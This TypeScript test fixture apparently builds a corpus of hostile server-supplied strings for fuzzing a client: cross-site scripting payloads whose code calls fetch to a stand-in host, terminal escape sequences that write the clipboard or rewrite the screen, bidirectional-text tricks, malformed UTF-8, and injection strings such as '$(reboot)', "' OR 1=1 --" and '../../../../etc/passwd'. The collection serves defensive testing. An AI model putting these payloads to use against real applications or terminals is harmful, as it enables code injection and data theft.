/** What a hostile server may put wherever it has a word: markup, scripts, terminal escapes, reordering, huge and broken bytes. As byte strings. */

const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1')

/** Would leave `window.taken` behind, a dialog, or a request. */
const CODE = 'window.taken=1;alert(1);fetch("http://192.0.2.7/")'
const ATTRIBUTE_CODE = CODE.replaceAll('"', '&quot;')

const ELEMENTS = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'object', 'embed', 'input', 'details', 'marquee', 'style', 'link', 'form', 'math', 'a', 'div', 'template', 'base', 'meta']
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onscroll']

function markup(): string[] {
  const handled = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} src=x href=x open autofocus ${handler}="${ATTRIBUTE_CODE}">x</${element}>`))
  const framed = ['<script>', '</script><script>', '<ScRiPt>', '<script/x>', '<!--><script>', '<![CDATA[<script>', '<svg><script>', '<math><mtext><script>', '</textarea><script>', '</title><script>', '</style><script>', '--><script>', '"><script>', "'><script>", '`><script>'].map((open) => `${open}${CODE}</script>`)
  const links = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', 'file:///etc/passwd#', 'blob:', 'app://', 'chrome://crash/'].flatMap((scheme) => [`<a href="${scheme}${ATTRIBUTE_CODE}">x</a>`, `<iframe src="${scheme}${ATTRIBUTE_CODE}"></iframe>`, `${scheme}${CODE}`])
  const templates = ['{{', '${', '#{', '<%=', '{@html ', '{#if ', '[[', '{%', '@{'].flatMap((open) => [`${open}${CODE}}`, `${open}constructor.constructor("${CODE}")()}}`])
  return [...handled, ...framed, ...links, ...templates]
}

function escapes(): string[] {
  const ESC = '\x1b'
  const ends = ['\x07', `${ESC}\\`, '\x9c', '']
  const operatingSystem = ['0;taken', '2;taken', '4;1;?', '8;;http://192.0.2.7/', '10;?', '11;?', '50;?', '52;c;dGFrZW4=', '52;c;?', '104', '777;notify;a;b', '1337;File=:AAAA', '133;A'].flatMap((body) => [...ends.map((end) => `${ESC}]${body}${end}`), `\x9d${body}\x9c`])
  const control = ['2J', 'H', '1;1H', '6n', '5n', 'c', '>c', '=c', '0x', '?1049h', '?1000h', '?2004h', '3J', '21t', '18t', '20t', '8;1;1t', '5i', '4i', '31m', '8m', '7m', '1000000000A', '1000000000C', '999999999@', '2K', 's', 'u', '?25l', '!p', '4h', '20h', '1;1r', '999b'].flatMap((body) => [`${ESC}[${body}`, `\x9b${body}`])
  const strings = [`${ESC}P+q544e${ESC}\\`, `${ESC}P$q"p${ESC}\\`, `${ESC}_Gi=1${ESC}\\`, `${ESC}^x${ESC}\\`, `${ESC}Xx${ESC}\\`, `${ESC}c`, `${ESC}7`, `${ESC}8`, `${ESC}D`, `${ESC}M`, `${ESC}#8`, `${ESC}(0`, `${ESC}%G`, `${ESC}=`, `${ESC}>`]
  return [...operatingSystem, ...control, ...strings, '\x07', '\b\b\b\b', '\r\x1b[2Kcheated', '\x0e', '\x0f', '\x05', '\x00', '\x7f', 'a\rb', '\v', '\f', '\x85', '\x84', '\x8d']
}

function reordered(): string[] {
  const marks = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c', '\u2028', '\u2029', '\ufeff', '\u200b', '\u2060', '\u00ad', '\u180e', '\ufff9', '\u{e0041}']
  return marks.flatMap((mark) => [utf8(`key${mark}nimda`), utf8(`${mark.repeat(40)}abc`)])
}

function broken(): string[] {
  const sequences = ['\xff', '\xfe\xff', '\xc0\x80', '\xc0\xaf', '\xed\xa0\x80', '\xed\xbf\xbf', '\xf4\x90\x80\x80', '\xf8\x88\x80\x80\x80', '\xe2\x28\xa1', '\xf0\x28\x8c\xbc', '\x80', '\xbf\xbf', '\xe2\x82', '\xf0\x9f\x98', '\xc3']
  const words = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'NaN', 'null', 'undefined', '-0', '1e999', 'true', '[object Object]', '%s%n%x', '../../../../etc/passwd', 'C:\\con\\con', '$(reboot)', '`reboot`', '; reboot', "' OR 1=1 --", '"}]}', '\\u0000', '&lt;script&gt;', '%3Cscript%3E']
  return [...sequences, ...words, utf8('Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘'), utf8('😀'.repeat(500)), utf8('﷽'.repeat(200)), utf8('👨‍👩‍👧‍👦')]
}

function huge(): string[] {
  return ['x'.repeat(200_000), '\x1b[31m'.repeat(10_000), '<b>'.repeat(20_000), utf8('\u202e'.repeat(20_000)), '\n'.repeat(20_000), '((((['.repeat(4000)]
}

/** At least 500, each different. */
export const HOSTILE_CORPUS: readonly string[] = [...new Set([...markup(), ...escapes(), ...reordered(), ...broken(), ...huge()])]
